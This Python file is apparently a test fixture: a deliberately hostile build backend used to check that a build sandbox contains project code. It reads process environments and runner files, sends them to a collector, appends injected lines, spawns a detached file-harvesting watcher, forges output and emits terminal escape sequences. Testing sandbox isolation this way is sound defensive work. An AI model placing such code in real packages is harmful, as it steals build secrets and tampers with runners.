"""A build backend that tries every way out it knows, and reports what it reached.

The test writes hostile.json beside pyproject.toml: where to report (a loopback collector), which
files and folders of the runner to try, and what to do. Every finding is sent to the collector, so
that the test sees exactly what project code could reach, contained or not.
"""
import json
import os
import subprocess
import sys
import time
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "..", "hostile.json")) as stream:
    CONFIG = json.load(stream)

WATCHER = r'''
import json, os, sys, time, urllib.request
config = json.loads(sys.argv[1])
def report(kind, data):
    try:
        urllib.request.urlopen(config["collector"], json.dumps({"kind": kind, "data": data}).encode(), timeout=1)
    except OSError:
        pass
report("heartbeat", {})
open("watcher-started", "w").close()
end = time.time() + 20
while time.time() < end:
    seen = {}
    for folder in config["folders"] + ["/tmp"]:
        for root, dirs, files in os.walk(folder):
            for name in files:
                try:
                    with open(os.path.join(root, name), errors="replace") as stream:
                        seen[os.path.join(root, name)] = stream.read(4096)
                except OSError:
                    pass
    report("heartbeat", seen)
    time.sleep(0.05)
'''


def report(kind, data):
    urllib.request.urlopen(CONFIG["collector"], json.dumps({"kind": kind, "data": data}).encode(), timeout=5)


def attempts():
    found = {}
    me = os.getpid()
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == me:
            continue
        for what in ("environ", "cmdline"):
            try:
                with open("/proc/%s/%s" % (pid, what), "rb") as stream:
                    found["%s/%s" % (pid, what)] = stream.read().decode("latin-1")
            except OSError:
                pass
        try:
            found["%s/owner" % pid] = os.stat("/proc/%s" % pid).st_uid
        except OSError:
            pass
        try:
            with open("/proc/%s/mem" % pid, "rb"):
                found["%s/mem" % pid] = "opened"
        except OSError:
            pass
        try:
            with open("/proc/%s/fd/1" % pid, "w") as stream:
                stream.write("::warning::written by project code to the step's stdout\n")
            found["%s/fd/1" % pid] = "written"
        except OSError:
            pass
    for name in CONFIG["files"]:
        try:
            with open(name) as stream:
                found["read " + name] = stream.read()
        except OSError:
            pass
        try:
            with open(name, "a") as stream:
                stream.write("INJECTED=by-project-code\n")
            found["wrote " + name] = True
        except OSError:
            pass
    for folder in CONFIG["folders"]:
        try:
            found["list " + folder] = os.listdir(folder)
        except OSError:
            pass
    for target in CONFIG["outside"]:
        try:
            with open(target, "w") as stream:
                stream.write("written by project code\n")
            found["wrote " + target] = True
        except OSError:
            pass
    try:
        with open(os.path.join(".git", "config")) as stream:
            found["git config"] = stream.read()
    except OSError:
        pass
    found["environment"] = dict(os.environ)
    found["uid"] = os.getuid()
    return found


def write_metadata(directory, summary):
    os.makedirs(os.path.join(directory, "hostile-1.0.dist-info"))
    with open(os.path.join(directory, "hostile-1.0.dist-info", "METADATA"), "w") as stream:
        stream.write("Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\nSummary: %s\n" % summary)
    return "hostile-1.0.dist-info"


def get_requires_for_build_wheel(config_settings=None):
    if CONFIG["mode"] == "break-work":
        # Replaces its copy of the project with a dangling link, so that the sandbox cannot be
        # entered again for the next hook.
        report("requires", {"uid": os.getuid()})
        here = os.getcwd()
        os.chdir("/")
        os.rename(here, here + "-moved")
        os.symlink("/nonexistent", here)
    return []


def prepare_metadata_for_build_wheel(directory, config_settings=None):
    mode = CONFIG["mode"]
    if mode == "break-work":
        report("metadata", {"uid": os.getuid()})
    elif mode == "everything":
        subprocess.Popen([sys.executable, "-c", WATCHER, json.dumps(CONFIG)], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        report("attempts", attempts())
        for _ in range(100):
            if os.path.exists("watcher-started"):
                break
            time.sleep(0.05)
        time.sleep(0.2)
    elif mode == "hold-stdout":
        # A grandchild in a session of its own that keeps the hook's stdout and stderr open.
        subprocess.Popen(["sleep", "600"], start_new_session=True)
    elif mode == "forge":
        for fd in os.listdir("/proc/self/fd"):
            try:
                os.write(int(fd), json.dumps({"ok": True, "via": "build_wheel\n::warning::forged by project code",
                                              "metadata": ""}).encode())
            except OSError:
                pass
    elif mode == "utf8":
        # Far more than one pipe read, one byte off: characters of two bytes fall across chunk boundaries.
        sys.stderr.write("x" + "\u00e9" * 200000 + "\n")
        sys.stderr.flush()
        raise RuntimeError("failing after a long line")
    elif mode == "escapes":
        sys.stderr.write("\x1b]8;;https://evil.invalid\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m \x9b2J\r::error::cr\n")
        raise RuntimeError("failing \x1b[2J on purpose")
    return write_metadata(directory, "from a hostile backend")
